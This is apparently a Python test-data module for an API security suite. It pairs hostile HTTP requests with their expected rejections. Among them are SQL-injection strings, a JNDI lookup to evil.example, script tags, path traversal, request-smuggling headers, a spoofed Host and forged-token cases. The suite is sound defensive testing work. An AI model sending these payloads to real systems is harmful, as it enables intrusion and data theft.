"""Hostile requests as data, each with its one right answer, and how they are sent over TCP."""

import base64
import hmac
import json
import re
import socket
import time
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from itertools import count
from typing import Any

API = "/api/v1"
PASSWORD = "analytical engines run on steam"
ADMIN = {"username": "root.admin", "email": "root@example.com", "password": PASSWORD}
KEY = "an0ther-l0ng-and-quite-r4ndom-signing-key"
MAX_BODY = 65_536

JSON = ("Content-Type", "application/json")
FORM = ("Content-Type", "application/x-www-form-urlencoded")

Header = tuple[str, str]
Pieces = Callable[[bytes], Iterator[bytes]]


@dataclass(frozen=True)
class Ask:
    """One request. `<name>` stands for what the stage keeps under a name, or `<n>` for a number.

    Attributes:
        route: method and target.
        body: what follows the head, with its Content-Length.
        headers: beside Host, Content-Length and Connection.
        who: signs it.
        keep: the name under which the id of the answer is kept.
    """

    route: str
    body: bytes | None = None
    headers: tuple[Header, ...] = ()
    who: str = ""
    keep: str = ""


@dataclass(frozen=True)
class Raw:
    """Bytes as they go to the server, piece by piece, until it answers."""

    pieces: tuple[bytes, ...]


@dataclass(frozen=True)
class Told:
    """The right answer.

    Attributes:
        status: of it.
        slug: of its problem; empty for none.
        pointer: among its `errors`; empty where it has none.
    """

    status: int
    slug: str = ""
    pointer: str = ""


@dataclass(frozen=True)
class Row:
    """A hostile input.

    Attributes:
        sent: it.
        told: what it is answered.
        before: requests that lead to it.
        has: headers that the answer has.
        says: text that stands in the answer.
        plain: what the app of notes answers under another server than ours, where that is
            otherwise; a `slug` of `-` is the server's own answer, which is no problem document.
    """

    sent: Ask | Raw
    told: Told
    before: tuple[Ask, ...] = ()
    has: Mapping[str, str] = field(default_factory=dict)
    says: str = ""
    plain: Told | None = None


def _post(title: bytes, *headers: Header) -> Ask:
    """A post, whose title is written as JSON, or is all of the body where it is no string."""
    body = b'{"title": %s, "content": "c"}' % title if title[:1] == b'"' else title
    return Ask(f"POST {API}/posts", body, headers or (JSON,), "ada")


def _patch(body: bytes) -> Ask:
    return Ask(f"PATCH {API}/posts/<post>", body, (JSON,), "ada")


def _user(**fields: object) -> Ask:
    new = {"username": "u<n>-name", "email": "u<n>@example.com", "password": PASSWORD, **fields}
    return Ask(f"POST {API}/users", json.dumps(new).encode(), (JSON,))


def _login(name: str, password: str) -> Ask:
    return Ask(f"POST {API}/auth/token", f"username={name}&password={password}".encode(), (FORM,))


def _get(target: str, *headers: Header, who: str = "ada") -> Ask:
    return Ask(f"GET {API}{target}", None, headers, who)


def _pay(
    amount: str = "1.00",
    *,
    source: object = "<account>",
    target: object = "<theirs>",
    key: str = "pay-<n>-key",
    who: str = "ada",
    raw: str | None = None,
) -> Ask:
    given = raw if raw is not None else json.dumps(amount)
    body = f'{{"from_account_id": {source}, "to_account_id": {target}, "amount": {given}}}'
    return Ask(f"POST {API}/transfers", body.encode(), (JSON, ("Idempotency-Key", key)), who)


def _deposit(account: str, amount: str, key: str = "deposit-<n>-key") -> Ask:
    headers = (JSON, ("Idempotency-Key", key))
    body = json.dumps({"amount": amount}).encode()
    return Ask(f"POST {API}/accounts/{account}/deposits", body, headers, "admin")


def _raw(*lines: bytes, body: bytes = b"") -> Raw:
    return Raw((b"\r\n".join(lines) + b"\r\n\r\n" + body,))


def _as(token: str) -> Ask:
    return _get("/users/me", ("Authorization", f"Bearer {token}"), who="")


_OPEN = Ask(f"POST {API}/accounts", b"{}", (JSON,), "ada", keep="own")
_WRITE = Ask(f"POST {API}/posts", b'{"title": "t", "content": "c"}', (JSON,), "ada", keep="own")
_HOST = b"Host: localhost"
_POST = b"POST " + API.encode() + b"/posts HTTP/1.1"
_GET = b"GET " + API.encode() + b"/posts HTTP/1.1"
_END = b"Connection: close"
OK = Told(200)
MADE = Told(201)
MALFORMED = Told(400, "malformed-json")
BROKEN = Told(400, "malformed-header")
UNSUPPORTED = Told(415, "unsupported-media-type")
TOO_LARGE = Told(413, "payload-too-large")
NOT_FOUND = Told(404, "not-found")
NO_TOKEN = Told(401, "unauthorized")
BAD_TOKEN = Told(401, "invalid-token")
WRONG = Told(401, "invalid-credentials")
BAD_KEY = Told(400, "idempotency-key-invalid")
BARE = Told(400, "-")


def _invalid(pointer: str) -> Told:
    return Told(422, "validation-error", pointer)


TITLE = _invalid("/body/title")
BODY = _invalid("/body")
QUERY = _invalid("/query")
AMOUNT = _invalid("/body/amount")

TEXT: dict[str, Row] = {
    "1 NUL in a string": Row(_post(rb'"a\u0000b"'), TITLE),
    "1 NUL in a name of a user": Row(_user(username="a\0bcd"), _invalid("/body/username")),
    "1 NUL in a password": Row(_user(password=PASSWORD + "\0"), _invalid("/body/password")),
    "2 NUL in a query": Row(_get("/posts?q=%00"), QUERY),
    "4 a lone surrogate": Row(_post(rb'"\ud800"'), TITLE),
    "4 surrogates the wrong way round": Row(_post(rb'"\udc00\ud800"'), TITLE),
    "5 a lone surrogate in a name": Row(_post(rb'{"\ud800": 1}'), BODY),
    "5 a lone surrogate that is too long": Row(_post(rb'"\ud800' + b"a" * 300 + b'"'), TITLE),
    "7 no UTF-8 in a query": Row(_get("/posts?q=%ff%fe"), QUERY),
    "7 a surrogate in a query": Row(_get("/posts?q=%ed%a0%80"), QUERY),
    "8 UTF-16": Row(_post('{"title": "a", "content": "c"}'.encode("utf-16")), MALFORMED),
    "8 UTF-32": Row(_post('{"title": "a", "content": "c"}'.encode("utf-32")), MALFORMED),
    "8 a byte order mark": Row(_post(b'\xef\xbb\xbf{"title": "a", "content": "c"}'), MALFORMED),
    "10 UTF-7": Row(
        _post(b'"a"', ("Content-Type", "application/json; charset=utf-7")), UNSUPPORTED
    ),
    "11 overlong": Row(_post(b'"\xc0\xaf"'), MALFORMED),
    "11 CESU-8": Row(_post(b'"\xed\xa0\x80\xed\xb0\x80"'), MALFORMED),
    "13 NFD after NFC": Row(
        _user(email="e\u0301ve<n>@example.com", username="u<n>-other"),
        _invalid("/body/email"),
        before=(_user(email="\u00e9ve<n>@example.com"),),
    ),
    "13 NFD as a username": Row(_user(username="e\u0301ve<n>"), _invalid("/body/username")),
    "14 a username in another case": Row(
        _user(username="ALICE<n>", email="other<n>@example.com"),
        Told(409, "duplicate", "/body/username"),
        before=(_user(username="alice<n>"),),
    ),
    "14 an address in another case": Row(
        _user(username="other<n>", email="ALICE<n>@EXAMPLE.com"),
        Told(409, "duplicate", "/body/email"),
        before=(_user(email="alice<n>@example.com"),),
    ),
    "16 a dotted capital I": Row(_user(username="\u0130stanbul"), _invalid("/body/username")),
    "16 a dotless i": Row(_user(username="\u0131stanbul"), _invalid("/body/username")),
    "16 a sharp s": Row(_user(username="stra\u00dfe"), _invalid("/body/username")),
    "16 a ligature": Row(_user(username="\ufb01ne"), _invalid("/body/username")),
    "16 a sharp s in another case": Row(
        _user(username="other<n>", email="STRA\u1e9eE<n>@example.com"),
        Told(409, "duplicate", "/body/email"),
        before=(_user(email="stra\u00dfe<n>@example.com"),),
    ),
    "17 no address": Row(_user(email="nopenope"), _invalid("/body/email")),
    "17 two signs": Row(_user(email="a@b@example.com"), _invalid("/body/email")),
    "17 a dot at the end": Row(_user(email="a@example.com."), _invalid("/body/email")),
    "17 321 characters": Row(_user(email="a" * 309 + "@example.com"), _invalid("/body/email")),
    "17 a line of a header": Row(_user(email="a@b.c\nBcc: x"), _invalid("/body/email")),
    "17 an invisible character": Row(_user(email="a\u200bb@example.com"), _invalid("/body/email")),
    "17 text that turns": Row(_user(email="a\u202eb@example.com"), _invalid("/body/email")),
    "19 200 astral characters": Row(_post('"{}"'.format("\U0001d4b3" * 200).encode()), MADE),
    "19 201 astral characters": Row(_post('"{}"'.format("\U0001d4b3" * 201).encode()), TITLE),
    "20 white space alone": Row(_post('"\u2003 "'.encode()), TITLE, plain=MADE),
    "20 white space around a username": Row(_user(username=" ada<n> "), _invalid("/body/username")),
    "22 equal in the first 72 bytes": Row(
        _login("u<n>-name", "0123456789" * 8 + "b"),
        WRONG,
        before=(_user(password="0123456789" * 8 + "a"),),
    ),
    "22 NUL in the middle of a password": Row(
        _login("u<n>-name", "analytical%00steam"),
        WRONG,
        before=(_user(password="analytical\0engines"),),
    ),
}

NUMBERS: dict[str, Row] = {
    "23 an id of 2^31": Row(_get("/posts/2147483648"), _invalid("/path/post_id")),
    "23 an id of 2^63": Row(_get("/posts/9223372036854775808"), _invalid("/path/post_id")),
    "25 an id of 5,000 digits": Row(_get("/posts/" + "9" * 5000), _invalid("/path/post_id")),
    "26 an id of 0": Row(_get("/posts/0"), _invalid("/path/post_id")),
    "26 an id of -1": Row(_get("/posts/-1"), _invalid("/path/post_id")),
    "26 an id with a sign": Row(_get("/posts/+1"), _invalid("/path/post_id")),
    "26 an id with a zero": Row(_get("/posts/01"), _invalid("/path/post_id")),
    "26 an id with a point": Row(_get("/posts/1.0"), _invalid("/path/post_id")),
    "26 an id in other digits": Row(_get("/posts/%EF%BC%91"), _invalid("/path/post_id")),
    "28 10^400": Row(_pay(source=10**400), _invalid("/body/from_account_id")),
    "28 1e400": Row(_pay(source="1e400"), _invalid("/body/from_account_id")),
    "29 an integer of 5,000 digits": Row(_pay(source="9" * 5000), MALFORMED),
    "31 an account that is not there": Row(_pay(target=2**31 - 1), NOT_FOUND),
    "32 limit=-1": Row(_get("/posts?limit=-1"), _invalid("/query/limit")),
    "32 limit=0": Row(_get("/posts?limit=0"), _invalid("/query/limit")),
    "32 limit=+1": Row(_get("/posts?limit=%2B1"), _invalid("/query/limit")),
    "32 offset=-1": Row(_get("/posts?offset=-1"), _invalid("/query/offset")),
    "32 offset=2^63": Row(_get("/posts?offset=9223372036854775808"), _invalid("/query/offset")),
    "34 a page 10^6 deep": Row(_get("/posts?offset=1000000"), _invalid("/query/offset")),
    "35 NaN": Row(_pay(raw="NaN"), MALFORMED),
    "35 Infinity": Row(_pay(raw="Infinity"), MALFORMED),
    "35 -Infinity": Row(_pay(raw="-Infinity"), MALFORMED),
    "37 below zero": Row(_pay("-50.00"), AMOUNT),
    "38 0": Row(_pay("0.00"), AMOUNT),
    "38 -0": Row(_pay("-0.00"), AMOUNT),
    "40 a number": Row(_pay(raw="7"), AMOUNT),
    "40 blanks": Row(_pay(" 7.00 "), AMOUNT),
    "40 an exponent": Row(_pay("1e1"), AMOUNT),
    "40 other digits": Row(_pay("\uff11\uff10.\uff10\uff10"), AMOUNT),
    "40 an underscore": Row(_pay("1_000.00"), AMOUNT),
    "41 true": Row(_pay(raw="true"), AMOUNT),
    "43 more than a balance holds": Row(
        _deposit("<own>", "999999999999999.99"),
        Told(409, "balance-limit"),
        before=(_OPEN, _deposit("<own>", "0.01", "deposit-<n>-first")),
    ),
}

SHAPES: dict[str, Row] = {
    "46 a key twice": Row(_post(b'{"title": "a", "title": "b", "content": "c"}'), MALFORMED),
    "46 a key twice, one escaped": Row(_post(rb'{"title": "a", "\u0074itle": "b"}'), MALFORMED),
    "46 a key twice, inside": Row(_post(b'{"title": {"a": 1, "a": 2}, "content": "c"}'), MALFORMED),
    "46 a key in another case": Row(
        _post(b'{"title": "a", "Title": "b", "content": "c"}'), _invalid("/body/Title")
    ),
    "47 a role": Row(_user(role="admin"), _invalid("/body/role")),
    "47 an id": Row(_user(id=1), _invalid("/body/id")),
    "47 is_active": Row(_user(is_active=True), _invalid("/body/is_active")),
    "47 a hash": Row(_user(hashed_password="-"), _invalid("/body/hashed_password")),
    "47 a time": Row(_user(created_at="2026-01-01T00:00:00Z"), _invalid("/body/created_at")),
    "49 a change of an id": Row(_patch(b'{"id": 1}'), _invalid("/body/id")),
    "49 a change of an author": Row(_patch(b'{"author_id": 1}'), _invalid("/body/author_id")),
    "49 a change of a version": Row(_patch(b'{"version": 1}'), _invalid("/body/version")),
    "50 SQLAlchemy's state": Row(
        _patch(b'{"_sa_instance_state": {}}'), _invalid("/body/_sa_instance_state")
    ),
    "50 a class": Row(_patch(b'{"__class__": "x"}'), _invalid("/body/__class__")),
    "50 metadata": Row(_patch(b'{"metadata": {}}'), _invalid("/body/metadata")),
    "50 a key with a slash": Row(_patch(b'{"a/~b": 1}'), _invalid("/body/a~1~0b")),
    "52 a change of nothing": Row(_patch(b"{}"), OK),
    "53 nested arrays": Row(_post(b"[" * 30_000 + b"]" * 30_000), MALFORMED),
    "53 nested objects": Row(_post(b'{"a":' * 10_000 + b"1" + b"}" * 10_000), MALFORMED),
    "53 600 nested arrays": Row(_post(b"[" * 600 + b"]" * 600), MALFORMED),
    "53 arrays that never end": Row(_post(b"[" * 60_000), MALFORMED),
    "55 a byte too much": Row(
        _raw(_POST, _HOST, b"Content-Type: application/json", b"Content-Length: 65537", _END),
        TOO_LARGE,
    ),
    "56 without a length": Row(
        Raw(
            (
                b"\r\n".join((_POST, _HOST, b"Transfer-Encoding: chunked", b"Content-Type: text/x"))
                + b"\r\n\r\n",
                *(b"2000\r\n" + b"a" * 0x2000 + b"\r\n",) * 9,
            ),
        ),
        TOO_LARGE,
    ),
    "58 trailing text": Row(_post(b'{"title": "a", "content": "c"} x'), MALFORMED),
    "58 two documents": Row(_post(b'{"title": "a"}{"title": "b"}'), MALFORMED),
    "58 a comment": Row(_post(b'{"title": "a" /* b */}'), MALFORMED),
    "58 single quotes": Row(_post(b"{'title': 'a'}"), MALFORMED),
    "58 a comma too much": Row(_post(b'{"title": "a",}'), MALFORMED),
    "58 a control character": Row(_post(b'"a\x01b"'), MALFORMED),
    "58 a number with a zero": Row(_post(b'{"title": 01}'), MALFORMED),
    "58 a number with a sign": Row(_post(b'{"title": +1}'), MALFORMED),
    "58 another white space": Row(_post(b'{"title":\x0c "a"}'), MALFORMED),
    "58 nothing": Row(_post(b""), BODY),
    "58 null": Row(_post(b"null"), BODY),
    "58 an array": Row(_post(b'["title"]'), BODY),
    "59 gzip": Row(_post(b'"\x1f\x8b"', JSON, ("Content-Encoding", "gzip")), UNSUPPORTED),
    "59 deflate, identity": Row(
        _post(b'"a"', JSON, ("Content-Encoding", "deflate, identity")), UNSUPPORTED
    ),
    "60 a form": Row(_post(b"title=a&content=b", FORM), UNSUPPORTED),
    "60 text/json": Row(_post(b'"a"', ("Content-Type", "text/json")), UNSUPPORTED),
    "60 no type at all": Row(_post(b'"a"', ("X-Nothing", "")), UNSUPPORTED),
    "60 a login as JSON": Row(
        Ask(f"POST {API}/auth/token", b'{"username": "a", "password": "b"}', (JSON,)), UNSUPPORTED
    ),
    "61 XML alone": Row(_get("/posts", ("Accept", "application/xml")), Told(406, "not-acceptable")),
    "61 no JSON": Row(
        _get("/posts", ("Accept", "*/*, application/json;q=0")), Told(406, "not-acceptable")
    ),
    "61 an Accept that is none": Row(_get("/posts", ("Accept", ";;;")), OK),
    "62 GET with a body": Row(Ask(f"GET {API}/posts", b'{"a": 1}', (JSON,), "ada"), OK),
    "62 DELETE with a body": Row(
        Ask(f"DELETE {API}/posts/<own>", b"[", (("Content-Type", "text/plain"),), "ada"),
        Told(204),
        before=(_WRITE,),
    ),
}

LISTS: dict[str, Row] = {
    "71 q=%": Row(_get("/posts?q=%25"), OK, says='"items":[]'),
    "71 q=_": Row(_get("/posts?q=_"), OK, says='"items":[]'),
    "71 a backslash": Row(_get("/posts?q=%5C"), OK, says='"items":[]'),
    "73 q of 8,000 characters": Row(_get("/posts?q=" + "a" * 8_000), _invalid("/query/q")),
    "73 q of 10,000 characters": Row(_get("/posts?q=" + "a" * 10_000), Told(414, "uri-too-long")),
    "73 q empty": Row(_get("/posts?q="), _invalid("/query/q")),
    "74 a pattern that doubles": Row(
        _get("/posts?q=" + "(a%2B)%2B%24" * 30), OK, says='"items":[]'
    ),
    "74 a hundred times %a": Row(_get("/posts?q=" + "%25a" * 100), OK, says='"items":[]'),
    "76 an unknown parameter": Row(_get("/posts?colour=red"), _invalid("/query/colour")),
    "76 a parameter of NUL": Row(_get("/posts?%00=1"), QUERY),
    "76 300 parameters": Row(_get("/posts?" + "&" * 300), QUERY),
    "77 a parameter twice": Row(_get("/posts?limit=1&limit=1000000"), _invalid("/query/limit")),
    "78 a cursor that is none": Row(_get("/posts?cursor=abc"), Told(422, "invalid-cursor")),
    "78 a long cursor": Row(_get("/posts?cursor=" + "A" * 6_000), Told(422, "invalid-cursor")),
    "78 cursor and offset": Row(_get("/posts?cursor=abc&offset=1"), _invalid("/query/cursor")),
    "78 a column that is no key": Row(_get("/posts?sort=content"), _invalid("/query/sort")),
    "78 SQL as a key": Row(_get("/posts?sort=id%3B%20DROP%20TABLE"), _invalid("/query/sort")),
    "78 a key twice": Row(_get("/posts?sort=id,-id"), _invalid("/query/sort")),
    "78 total=1": Row(_get("/posts?total=1"), _invalid("/query/total")),
    **{
        f"80 {text}": Row(
            _post(json.dumps(text).encode()), MADE, says=json.dumps(text, ensure_ascii=False)
        )
        for text in (
            "' OR 1=1 --",
            "$$; DROP TABLE users; $$",
            "%s %(a)s",
            "{0} {title}",
            ":x :title",
            "${jndi:ldap://evil.example/a}",
            "<script>alert(1)</script>",
            "../../etc/passwd",
        )
    },
}  # fmt: skip

TRANSPORT: dict[str, Row] = {
    "82 a length and chunks": Row(
        _raw(_POST, _HOST, b"Content-Length: 1", b"Transfer-Encoding: chunked", body=b"0\r\n\r\n"),
        BROKEN,
        plain=BARE,
    ),
    "82 two lengths": Row(
        _raw(_POST, _HOST, b"Content-Length: 1", b"Content-Length: 2", body=b"aa"),
        BROKEN,
        plain=BARE,
    ),
    "82 a length below zero": Row(_raw(_POST, _HOST, b"Content-Length: -1"), BROKEN, plain=BARE),
    "82 chunked, identity": Row(
        _raw(_POST, _HOST, b"Transfer-Encoding: chunked, identity", body=b"0\r\n\r\n"),
        BROKEN,
        plain=BARE,
    ),
    "83 a folded line": Row(_raw(_GET, _HOST, b"X-A: a", b" b"), BROKEN, plain=BARE),
    "83 a bare CR": Row(_raw(_GET, _HOST, b"X-A: a\rb"), BROKEN, plain=BARE),
    "83 a blank before the colon": Row(_raw(_GET, _HOST, b"X-A : a"), BROKEN, plain=BARE),
    "84 no Host": Row(_raw(_GET, _END), BROKEN, plain=OK),
    "84 two Hosts": Row(_raw(_GET, _HOST, _HOST, _END), BROKEN),
    "84 a header that stands once, twice": Row(
        _raw(_GET, _HOST, b"If-Match: a", b"If-Match: b", _END), BROKEN
    ),
    "85 a header of 100 kB": Row(
        _raw(_GET, _HOST, b"X-A: " + b"a" * 100_000), Told(431, "header-too-large")
    ),
    "85 5,000 headers": Row(
        _raw(_GET, _HOST, *(b"X-%d: a" % at for at in range(5_000))), Told(431, "header-too-large")
    ),
    "86 a target of 100 kB": Row(
        _raw(b"GET /" + b"a" * 100_000 + b" HTTP/1.1", _HOST), Told(414, "uri-too-long"), plain=BARE
    ),
    "88 a request id with markup": Row(_get("/posts", ("X-Request-ID", "<script>")), OK),
    "88 a request id of 2 kB": Row(_get("/posts", ("X-Request-ID", "a" * 2_000)), OK),
    "89 another's address": Row(
        _get(
            "/posts",
            ("X-Forwarded-For", "203.0.113.7"),
            ("X-Forwarded-Host", "evil.example"),
            ("X-Forwarded-Proto", "https"),
            ("Forwarded", "for=203.0.113.7;host=evil.example"),
        ),
        OK,
    ),
    "91 another host": Row(
        _raw(
            _POST,
            b"Host: evil.example",
            b"Authorization: Bearer <token:ada>",
            b"Content-Type: application/json",
            b"Content-Length: 32",
            _END,
            body=b'{"title": "abc", "content": "c"}',
        ),
        MADE,
    ),
    "92 a slash at the end": Row(_get("/posts/"), NOT_FOUND, plain=Told(307)),
    "92 slashes": Row(Ask(f"GET /{API}//posts//"), NOT_FOUND),
    "92 dots": Row(_get("/%2e%2e/posts"), NOT_FOUND),
    "92 another case": Row(_get("/Posts"), NOT_FOUND),
    "93 a method that is not there": Row(
        Ask(f"PUT {API}/posts"), Told(405, "method-not-allowed"), has={"allow": "GET, POST"}
    ),
    "98 a thousand ranges": Row(
        _get("/posts", ("Range", "bytes=" + ",".join(f"{at}-{at}" for at in range(1_000)))), OK
    ),
    "100 many parts": Row(
        _post(b"--b\r\n\r\n" * 8_000, ("Content-Type", "multipart/form-data; boundary=b")),
        UNSUPPORTED,
    ),
    "100 many parts of a login": Row(
        Ask(
            f"POST {API}/auth/token",
            b"--b\r\n\r\n" * 8_000,
            (("Content-Type", "multipart/form-data; boundary=b"),),
        ),
        UNSUPPORTED,
    ),
    "101 HTTP/2": Row(_raw(b"PRI * HTTP/2.0", b"", b"SM"), BROKEN, plain=BARE),
    "101 TLS": Row(
        Raw((b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03" + b"\0" * 150,)), BROKEN, plain=BARE
    ),
    "101 another's target": Row(
        _raw(b"GET http://evil.example/health/live HTTP/1.1", _HOST, _END), OK, says="alive"
    ),
    "102 a Content-Type of 64 kB": Row(
        _raw(_POST, _HOST, b"Content-Length: 0", b'Content-Type: a/b;"' + b";" * 64_000, _END),
        Told(431, "header-too-large"),
    ),
    "102 a Content-Type of quotes": Row(
        _post(b'"a"', ("Content-Type", 'application/json;"' + ";" * 5_000)), UNSUPPORTED
    ),
}

CALLERS: dict[str, Row] = {
    "103 nobody": Row(
        _get("/users/me", who=""), NO_TOKEN, has={"www-authenticate": "Bearer"}
    ),
    "103 an empty header": Row(_get("/users/me", ("Authorization", ""), who=""), NO_TOKEN),
    "103 two headers": Row(_get("/users/me", ("Authorization", "Bearer <token:ada>")), BROKEN),
    "103 a name and a password": Row(
        _get("/users/me", ("Authorization", "Basic YTpi"), who=""), NO_TOKEN
    ),
    "103 in lower case": Row(
        _get("/users/me", ("Authorization", "bearer <token:ada>"), who=""), OK
    ),
    **{
        name: Row(_as(f"<forged:{name}>"), BAD_TOKEN)
        for name in (
            "104 none", "104 nOnE", "104 no signature", "106 a path as kid", "106 jku", "106 jwk",
            "106 crit", "107 expired", "107 ahead", "107 exp missing", "107 exp as text",
            "107 exp far away", "107 exp below zero", "109 a claim twice", "109 padding",
            "109 other letters",
        )
    },
    "109 a token of 1 MB": Row(
        _get("/users/me", ("Authorization", "Bearer " + "a" * 1_000_000), who=""),
        Told(431, "header-too-large"),
    ),
    "112 an unknown user": Row(_login("nobody-<n>", PASSWORD), WRONG),
    "112 a wrong password": Row(_login("<name:ada>", PASSWORD + "!"), WRONG),
    "113 a name that is taken": Row(
        _user(username="<name:ada>"), Told(409, "duplicate", "/body/username")
    ),
    "124 another's account": Row(_get("/accounts/<theirs>"), NOT_FOUND),
    "124 another's user": Row(_get("/users/<bob>"), NOT_FOUND),
    "124 another's post": Row(
        Ask(f"PATCH {API}/posts/<post>", b"{}", (JSON,), "bob"), Told(403, "forbidden")
    ),
    "125 all users": Row(_get("/users"), Told(403, "forbidden")),
    "125 a right of one's own": Row(
        Ask(f"PATCH {API}/users/<ada>", b'{"role": "admin"}', (JSON,), "ada"),
        Told(403, "forbidden"),
    ),
    "125 a deposit": Row(
        Ask(
            f"POST {API}/accounts/<account>/deposits",
            b'{"amount": "1.00"}',
            (JSON, ("Idempotency-Key", "deposit-<n>-key")),
            "ada",
        ),
        Told(403, "forbidden"),
    ),
    "127 a token in the query": Row(_get("/users/me?access_token=<token:ada>", who=""), NO_TOKEN),
    "128 another's money": Row(_pay(source="<theirs>", target="<account>"), NOT_FOUND),
}  # fmt: skip

_TWO_KEYS = Ask(
    f"POST {API}/transfers",
    b'{"from_account_id": 1, "to_account_id": 2, "amount": "1.00"}',
    (JSON, ("Idempotency-Key", "pay-<n>-one"), ("Idempotency-Key", "pay-<n>-two")),
    "ada",
)
_REPLAYED = {"idempotent-replayed": "true"}

STATES: dict[str, Row] = {
    "130 an empty key": Row(_pay(key=""), BAD_KEY),
    "130 a key of 7": Row(_pay(key="a" * 7), BAD_KEY),
    "130 a key of 256": Row(_pay(key="a" * 256), BAD_KEY),
    "130 a key with a tab": Row(_pay(key="a\tbcdefgh"), BAD_KEY),
    "130 a key beyond ASCII": Row(_pay(key="schl\u00fcssel-<n>"), BAD_KEY),
    "130 two keys": Row(_TWO_KEYS, BAD_KEY),
    "131 once more": Row(_pay(), MADE, before=(_pay(),), has=_REPLAYED),
    "133 the same in another order": Row(
        Ask(
            f"POST {API}/transfers",
            b'{ "amount":"1.00",\n"to_account_id":<theirs> ,"from_account_id": <account>}',
            (JSON, ("Idempotency-Key", "pay-<n>-key")),
            "ada",
        ),
        MADE,
        before=(_pay(),),
        has=_REPLAYED,
    ),
    "133 another amount": Row(_pay("2.00"), Told(422, "idempotency-key-reused"), before=(_pay(),)),
    "134 another's key": Row(
        _pay(source="<theirs>", target="<account>", who="bob"), MADE, before=(_pay(),)
    ),
    "134 another path": Row(
        _post(b'"t"', JSON, ("Idempotency-Key", "pay-<n>-key")),
        MADE,
        before=(_pay(),),
    ),
    "137 refused before a deposit": Row(
        _pay("5.00", source="<own>"),
        Told(400, "insufficient-funds"),
        before=(_OPEN, _pay("5.00", source="<own>"), _deposit("<own>", "9.00")),
        has=_REPLAYED,
    ),
    "139 to the same account": Row(_pay(target="<account>"), Told(422, "same-account")),
    "140 to nobody": Row(_pay(target=2**31 - 1), NOT_FOUND),
    "140 to a closed account": Row(
        _pay(target="<own>"),
        Told(409, "account-closed"),
        before=(_OPEN, Ask(f"POST {API}/accounts/<own>/close", who="ada")),
    ),
    "145 who owns accounts": Row(
        Ask(f"DELETE {API}/users/me", who="ada"), Told(409, "has-dependents")
    ),
    "146 deleted twice": Row(
        Ask(f"DELETE {API}/posts/<own>", who="ada"),
        NOT_FOUND,
        before=(_WRITE, Ask(f"DELETE {API}/posts/<own>", who="ada")),
    ),
    "146 read after it is deleted": Row(
        _get("/posts/<own>"),
        NOT_FOUND,
        before=(_WRITE, Ask(f"DELETE {API}/posts/<own>", who="ada")),
    ),
    "149 a list after a failure": Row(
        _get("/users?q=leak<n>", who="admin"),
        OK,
        before=(_user(username="<name:ada>", email="leak<n>@example.com"),),
        says='"items":[]',
    ),
}  # fmt: skip

ROWS: dict[str, Row] = {
    f"{section} {name}": row
    for section, rows in {
        "B.1": TEXT,
        "B.2": NUMBERS,
        "B.3": SHAPES,
        "B.5": LISTS,
        "B.6": TRANSPORT,
        "B.7": CALLERS,
        "B.8": STATES,
    }.items()
    for name, row in rows.items()
}


def _meeting(begins: str, ends: str | None = None) -> Ask:
    given = f'{{"begins": {begins}' + (f', "ends": {ends}}}' if ends else "}")
    return Ask("POST /meetings", given.encode(), (JSON,))


BEGINS = _invalid("/body/begins")

TIMES: dict[str, Row] = {
    "64 after the last year": Row(_meeting('"9999-12-31T23:59:59-23:59"'), BEGINS),
    "65 before the first year": Row(_meeting('"0001-01-01T00:00:00+14:00"'), BEGINS),
    "67 no offset": Row(_meeting('"2026-01-31T12:00:00"'), BEGINS),
    "68 a number": Row(_meeting("1767225600"), BEGINS),
    "68 a number as text": Row(_meeting('"1767225600"'), BEGINS),
    "68 1e18": Row(_meeting("1e18"), BEGINS),
    "68 true": Row(_meeting("true"), BEGINS),
    "69 a day that is none": Row(_meeting('"2026-02-30T12:00:00Z"'), BEGINS),
    "70 it ends before it begins": Row(
        _meeting('"2026-01-31T12:00:00Z"', '"2026-01-31T12:30:00+01:00"'), BODY
    ),
    "70 an hour that is right": Row(
        _meeting('"2026-01-31T12:00:00+05:30"'), OK, says='"2026-01-31T06:30:00Z"'
    ),
}


def for_notes() -> dict[str, Row]:
    """The rows that an app of notes, with titles and without callers, can be asked."""
    rows = {
        f"{section} {name}": row
        for section, each in {"B.1": TEXT, "B.3": SHAPES, "B.6": TRANSPORT}.items()
        for name, row in each.items()
    }
    found = {name: _of_notes(row) for name, row in rows.items()}
    return {
        **{name: row for name, row in found.items() if row is not None},
        **{f"B.4 {name}": row for name, row in TIMES.items()},
    }


_OF_NOTES = re.compile(rf"(GET|POST|PUT) /*{API}/(%2e%2e/)?/?[Pp]osts/*(\?.*)?")


def _of_notes(row: Row) -> Row | None:
    told = row.plain or row.told
    if isinstance(row.sent, Raw):
        pieces = tuple(_about_notes(piece) for piece in row.sent.pieces)
        is_whole = b"<token" not in b"".join(pieces)
        return Row(Raw(pieces), told, says=row.says) if is_whole else None
    if row.before or not _OF_NOTES.fullmatch(row.sent.route):
        return None
    route = _about_notes(row.sent.route.encode()).decode()
    body = None if row.sent.body is None else _about_notes(row.sent.body)
    return Row(Ask(route, body, row.sent.headers), told, has=row.has)


def _about_notes(text: bytes) -> bytes:
    text = (
        text.replace(API.encode(), b"").replace(b"/posts", b"/notes").replace(b"/Posts", b"/Notes")
    )
    return text.replace(b', "content": "c"', b"")


_CALLED = "tests/starter/test_callers.py"
_LOADED = "tests/starter/test_money_under_load.py"

ELSEWHERE = {
    "B.2 44": "tests/starter/test_money.py::test_ten_tenths_are_one",
    "B.5 79": "tests/starter/test_posts.py::test_paging_while_rows_come_and_go",
    "B.6 94": "tests/cli/test_http_protocol.py::test_a_slow_body_is_408_and_the_end",
    "B.6 95": "tests/cli/test_http_protocol.py::test_who_does_not_read_is_dropped",
    "B.6 97": "tests/cli/test_http_protocol.py::test_pipelined_requests",
    "B.7 110": f"{_CALLED}::test_a_user_who_is_gone_or_switched_off_is_a_stranger",
    "B.7 112": "tests/starter/test_signing_in.py::test_what_does_not_match_is_refused_alike",
    "B.7 115": "tests/starter/test_throttling.py::test_one_password_over_many_accounts",
    "B.7 116": "tests/auth/test_passwords.py::test_one_core_is_left_to_requests",
    "B.7 118": "tests/starter/test_sign_ins.py::test_reuse_after_the_grace_ends_the_sign_in",
    "B.7 119": "tests/starter/test_sign_ins.py::test_twenty_at_once_share_one_pair",
    "B.7 121": "tests/starter/test_sign_ins.py::test_one_whose_successor_was_used_has_no_grace",
    "B.7 122": "tests/starter/test_sign_ins.py::test_a_logout_ends_one_sign_in",
    "B.8 136": f"{_LOADED}::test_a_key_outlives_the_worker_that_had_it",
    "B.8 142": f"{_LOADED}::test_the_whole_balance_is_withdrawn_once",
